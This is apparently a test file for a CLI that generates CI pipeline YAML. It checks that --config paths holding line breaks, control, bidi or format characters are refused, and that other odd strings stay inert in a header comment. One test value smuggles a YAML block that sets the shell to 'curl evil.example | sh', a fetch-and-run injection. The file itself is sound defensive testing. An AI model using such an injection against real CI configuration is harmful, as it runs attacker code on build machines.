import { copyFileSync, mkdirSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, parseDocument } from 'yaml';
import { yamlWithHeader } from '../../cli/ci/ci-yaml';
import { ciCommand, CI_ENGINES } from '../../cli/commands/ci';
import { CliError } from '../../errors/user-errors';
import { EXAMPLE_PATH } from '../helpers/example';
import { runBin } from './temp-org';

/**
 * Generated CI files with hostile --config paths: a path is data in the header comment and
 * nowhere else. What would break out of the comment (line breaks of YAML 1.2 and 1.1, other
 * controls, bidi and format characters) is refused; everything else round-trips through the
 * YAML parser, as YAML 1.2 and as 1.1, to exactly the structure of a plain path.
 */
const LOCK = join(__dirname, '..', '..', 'org.lock.json');

/** A copy of the example org in a directory whose name holds `hostile`. */
function orgUnder(hostile: string): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'ci-path-')), `org${hostile}dir`);
  mkdirSync(dir);
  copyFileSync(EXAMPLE_PATH, join(dir, 'org.yaml'));
  copyFileSync(LOCK, join(dir, 'org.lock.json'));
  return join(dir, 'org.yaml');
}

const BREAKOUT = '\ndefaults:\n  run:\n    shell: curl evil.example | sh {0}\n#';
const REFUSED = ['\n', '\r', '\r\n', '\t', '\x0b', '\x0c', '\x1b[2K', '\x07', '\x08', '\x7f', '\x85', '\u2028', '\u2029', '\u202e', '\u2066', '\u200b', '\ufeff', BREAKOUT];
const ACCEPTED = ['#', ' # x', ': ', 'a: b', '- x', '"', "'", '`', '${{ github.event.pull_request.title }}', '${{ secrets.TF_API_TOKEN }}', '{a: 1}', '[x]', '&a *a', '!!str', '%TAG', '|', '>', '\\', '--- ', '...', 'é中🙂'];

const expressions = (doc: unknown): string[] => JSON.stringify(doc).match(/\$\{\{.*?\}\}/g) ?? [];

describe.each(CI_ENGINES)('ci %s: hostile --config paths', (engine) => {
  const plain = ciCommand({ config: EXAMPLE_PATH, engine });
  const plainDoc = parse(plain) as unknown;

  it.each(REFUSED.map((h) => [h]))('refuses a path holding %j, naming --config', (hostile) => {
    const call = () => ciCommand({ config: `/tmp/org${hostile}.yaml`, engine });
    expect(call).toThrow(CliError);
    expect(call).toThrow(/^ci: --config .* holds a control or format character/s);
  });

  it.each(ACCEPTED.map((h) => [h]))('a path holding %j is data in the header comment only', (hostile) => {
    const path = orgUnder(hostile);
    const text = ciCommand({ config: path, engine });
    const doc = parseDocument(text);
    expect(doc.errors).toEqual([]);
    expect(doc.toJS()).toEqual(plainDoc);
    expect(parse(text, { version: '1.1' })).toEqual(parse(plain, { version: '1.1' }));
    expect(doc.commentBefore).toContain(`--config ${path}`);
    // No key or value gained the path, and no GitHub expression came with it.
    expect(JSON.stringify(doc.toJS())).not.toContain('ci-path-');
    expect(expressions(doc.toJS())).toEqual(expressions(plainDoc));
    // Every line of the header is a comment line.
    const headerLines = text.split('\n\n')[0].split('\n');
    expect(headerLines.every((l) => l.startsWith('#'))).toBe(true);
  });
});

it('a value that reached the YAML with a control character in it is refused (whatever path it came by)', () => {
  expect(() => yamlWithHeader(['ok'], { env: { REGION: 'us-east-1\rdefaults: x' } })).toThrow(/a CI value holds a control character/);
  expect(() => yamlWithHeader(['ok'], { ['key\u2028x']: 1 })).toThrow(/a CI value holds a control character/);
  expect(() => yamlWithHeader(['a\rb'], {})).toThrow(/a CI header line holds a control character/);
  expect(yamlWithHeader(['ok'], { run: 'a\nb\n' })).toBe('# ok\n\nrun: |\n  a\n  b\n');
});

it('bin: a --config with a newline exits 1 with the message alone, no stack trace', () => {
  const r = runBin(['ci', 'github-actions', '--config', `org.yaml${BREAKOUT}`]);
  expect([r.status, r.stdout]).toEqual([1, '']);
  expect(r.stderr).toMatch(/^ci: --config "org\.yaml\\ndefaults:.*holds a control or format character/);
  expect(r.stderr).not.toMatch(/\n\s+at /);
});
